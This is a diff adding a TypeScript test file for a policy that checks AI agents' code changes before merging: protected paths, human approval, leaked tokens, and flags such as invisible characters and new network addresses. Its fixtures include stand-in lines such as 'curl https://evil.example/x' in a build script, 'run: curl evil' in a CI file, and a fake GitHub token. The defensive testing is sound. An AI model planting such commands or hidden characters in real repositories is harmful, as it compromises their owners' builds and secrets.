@@ -1,0 +1,205 @@
+// The policy about files at landing, with real git: what merging the work would change, and work that a person has to approve.
+import { chmodSync, mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import type { ProtectedPaths, Verification } from '@clambake/core';
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { plainGit } from '../../../../test/support/git-server.ts';
+import { openLandingRepository } from './landing-repository.ts';
+
+let root: string;
+let count = 0;
+const git = (...args: string[]): string => plainGit(join(root, 'agent'), ...args).trim();
+const put = (path: string, text: string): void => {
+  mkdirSync(dirname(join(root, 'agent', path)), { recursive: true });
+  writeFileSync(join(root, 'agent', path), text);
+};
+const commit = (message = 'a change'): string => {
+  git('add', '--all');
+  git('commit', '--quiet', '--allow-empty', '--message', message);
+  return git('rev-parse', 'HEAD');
+};
+const lines = (edited = ''): string =>
+  Array.from({ length: 20 }, (_, line) => (line === 7 && edited !== '' ? `${edited}\n` : `line ${line}\n`)).join('');
+
+beforeEach(() => {
+  root = mkdtempSync(join(tmpdir(), 'landing-policy-'));
+  plainGit(root, 'init', '--quiet', '--bare', '--initial-branch=main', 'origin.git');
+  plainGit(root, 'init', '--quiet', '--initial-branch=main', 'agent');
+  git('remote', 'add', 'origin', join(root, 'origin.git'));
+  put('tools/setup.yml', lines());
+  put('CLAUDE.md', 'be kind\n');
+  commit();
+  git('push', '--quiet', 'origin', 'main');
+  git('checkout', '--quiet', '-b', 'work');
+});
+afterEach(() => rmSync(root, { recursive: true, force: true }));
+
+const onBase = (change: () => void): void => {
+  git('checkout', '--quiet', 'main');
+  change();
+  commit();
+  git('push', '--quiet', 'origin', 'main');
+  git('checkout', '--quiet', 'work');
+};
+
+const verify = (protectedPaths: ProtectedPaths, change: { startOid?: string | undefined } = {}): Promise<Verification> => {
+  const workFile = join(root, `work-${(count += 1)}.bundle`);
+  git('bundle', 'create', '--quiet', workFile, 'main~1..refs/heads/work', '^main~1');
+  return openLandingRepository({ gitDir: join(root, `landing-${count}.git`), remote: join(root, 'origin.git'), allowFile: true }).verify({
+    workFile,
+    headOid: git('rev-parse', 'work'),
+    base: 'main',
+    branch: 'clambake/issue-42',
+    agent: '007',
+    attempt: '42-1-9f3a77c2',
+    protectedPaths,
+    knownSecrets: ['the-token-of-this-job'],
+    ...change,
+  });
+};
+
+describe('work whose merge would change a protected path under another name', () => {
+  test('is refused at landing already, and accepted where that path is not protected', async () => {
+    put('tools/setup.yml', lines('run: curl evil'));
+    commit();
+    onBase(() => {
+      mkdirSync(join(root, 'agent/.github'));
+      renameSync(join(root, 'agent/tools/setup.yml'), join(root, 'agent/.github/setup.yml'));
+    });
+    expect(await verify(['.github/**'])).toEqual({
+      ok: false,
+      why: 'merging it into the base changes what its own files do not show: it changes protected paths: ".github/setup.yml"',
+    });
+    expect(await verify([])).toMatchObject({ ok: true });
+  });
+
+  test('is left to the train where it conflicts', async () => {
+    put('tools/setup.yml', lines('mine'));
+    commit();
+    onBase(() => put('tools/setup.yml', lines('theirs')));
+    expect(await verify(['.github/**'])).toMatchObject({ ok: true });
+  });
+});
+
+describe('work that a person has to approve', () => {
+  const asks = { '**/CLAUDE.md': 'needs-human', '.github/**': 'block' } as const;
+  beforeEach(() => {
+    onBase(() => put('README.md', 'read me\n'));
+  });
+
+  test('is held as its final commit, with the content at each protected path and the rule', async () => {
+    put('CLAUDE.md', 'be swift\n');
+    put('src/a.txt', 'a\n');
+    commit();
+    const found = await verify(asks);
+    expect(found).toMatchObject({
+      ok: false,
+      why: 'it changes protected paths: "CLAUDE.md"',
+      held: { files: 2, additions: 2, deletions: 1, rule: '"**/CLAUDE.md": needs-human', paths: [{ path: 'CLAUDE.md', mode: '100644' }] },
+    });
+    if (found.ok || found.held === undefined) throw new Error('it is held');
+    const { oid, paths } = found.held;
+    const landing = join(root, `landing-${count}.git`);
+    expect(plainGit(landing, 'log', '-1', '--format=%an', oid).trim()).toBe('clambake agent 007');
+    expect(plainGit(landing, 'cat-file', 'blob', paths[0]?.oid ?? '').trim()).toBe('be swift');
+    expect(await verify({ '**/CLAUDE.md': 'allow' })).toMatchObject({ ok: true, files: 2 });
+  });
+
+  test.each<[string, () => void, RegExp]>([
+    ['a blocked path beside it', () => put('.github/x.yml', 'x\n'), /^it changes protected paths: "\.github\/x\.yml", "CLAUDE\.md"$/],
+    ['a secret beside it', () => put('src/key.txt', `ghp_${'a'.repeat(36)}\n`), /GitHub token$/],
+    ['a secret in it', () => put('CLAUDE.md', 'the-token-of-this-job\n'), /secret of this job$/],
+  ])('is refused and not held with %s', async (_, change, why) => {
+    put('CLAUDE.md', 'be swift\n');
+    change();
+    commit();
+    const found = await verify(asks);
+    expect(found).toEqual({ ok: false, why: expect.stringMatching(why) as unknown });
+  });
+});
+
+test('what a reviewer easily overlooks is named with the work, and work without it has no such lines', async () => {
+  onBase(() => put('README.md', 'read me\n'));
+  put('src/plain.ts', 'export {};\n');
+  commit();
+  expect(await verify([])).not.toHaveProperty('flags');
+  put('src/ä "b".ts', 'a\u202eb\n');
+  put('.gitattributes', '*.ts -diff\n');
+  put('build.sh', '++ curl https://evil.example/x\n');
+  chmodSync(join(root, 'agent/build.sh'), 0o755);
+  put('logo.bin', 'a\0b');
+  put('package.json', '{}\n');
+  commit();
+  expect(await verify([])).toMatchObject({
+    ok: true,
+    flags: [
+      expect.stringMatching(/^bidirectional or invisible characters: "src\/ä /),
+      'changes hidden in diffs: ".gitattributes"',
+      'new executable files: "build.sh"',
+      'binary files: "logo.bin"',
+      'what is installed: "package.json"',
+      'new network addresses in scripts: "evil.example"',
+    ],
+  });
+});
+
+describe('a branch that somebody pushed to while the agent worked', () => {
+  const startOid = (): string => git('rev-parse', 'main');
+  /** A person's commit on the issue's branch, beside the agent's. */
+  const push = (files: Record<string, string>): string => {
+    git('checkout', '--quiet', '-B', 'person', 'main');
+    for (const [path, text] of Object.entries(files)) put(path, text);
+    const oid = commit('by a person');
+    git('push', '--quiet', '--force', 'origin', 'person:clambake/issue-42');
+    git('checkout', '--quiet', 'work');
+    return oid;
+  };
+  const verifyFrom = (start: string | undefined, rules: ProtectedPaths = ['.github/**']) => verify(rules, { startOid: start });
+  beforeEach(() => {
+    onBase(() => put('README.md', 'read me\n'));
+    git('checkout', '--quiet', '-B', 'work', 'main');
+    put('src/agent.txt', 'by the agent\n');
+    commit('by the agent');
+  });
+
+  test('lands with both: the pushed commit as it is, the work of the agent, and a merge of them', async () => {
+    const pushed = push({ 'src/person.txt': 'by a person\n' });
+    const found = await verifyFrom(startOid());
+    expect(found).toMatchObject({ ok: true, files: 2, branchExpect: pushed });
+    if (!found.ok) throw new Error(found.why);
+    const landing = join(root, `landing-${count}.git`);
+    const parents = plainGit(landing, 'log', '-1', '--format=%P', found.oid).trim().split(' ');
+    expect(parents[0]).toBe(pushed);
+    expect(plainGit(landing, 'log', '-1', '--format=%an', parents[1] ?? '').trim()).toBe('clambake agent 007');
+  });
+
+  test('is refused with the files where both changed the same, and with the rule where the pushed commit breaks one', async () => {
+    push({ 'src/agent.txt': 'by a person\n' });
+    expect(await verifyFrom(startOid())).toEqual({
+      ok: false,
+      why: 'somebody pushed to clambake/issue-42 while the agent worked, and both changed "src/agent.txt"',
+    });
+    push({ '.github/x.yml': 'x\n' });
+    expect(await verifyFrom(startOid())).toEqual({ ok: false, why: 'it changes protected paths: ".github/x.yml"' });
+    push({ 'src/key.txt': `ghp_${'a'.repeat(36)}\n` });
+    expect(await verifyFrom(startOid())).toMatchObject({ ok: false, why: expect.stringContaining('GitHub token') as unknown });
+  });
+
+  test('is told from a branch whose commits the agent rewrote', async () => {
+    const pushed = push({ 'src/person.txt': 'by a person\n' });
+    for (const start of [pushed, undefined, 'a'.repeat(40)])
+      expect(await verifyFrom(start)).toMatchObject({ ok: false, why: expect.stringContaining('its history was rewritten') as unknown });
+  });
+
+  test('passes the checks also where it holds the whole work already', async () => {
+    git('push', '--quiet', '--force', 'origin', 'work:clambake/issue-42');
+    git('checkout', '--quiet', '-B', 'person', 'work');
+    put('.github/x.yml', 'x\n');
+    commit('by a person');
+    git('push', '--quiet', '--force', 'origin', 'person:clambake/issue-42');
+    git('checkout', '--quiet', 'work');
+    expect(await verifyFrom(startOid())).toEqual({ ok: false, why: 'it changes protected paths: ".github/x.yml"' });
+    expect(await verifyFrom(startOid(), [])).toMatchObject({ ok: true, files: 2 });
+  });
+});
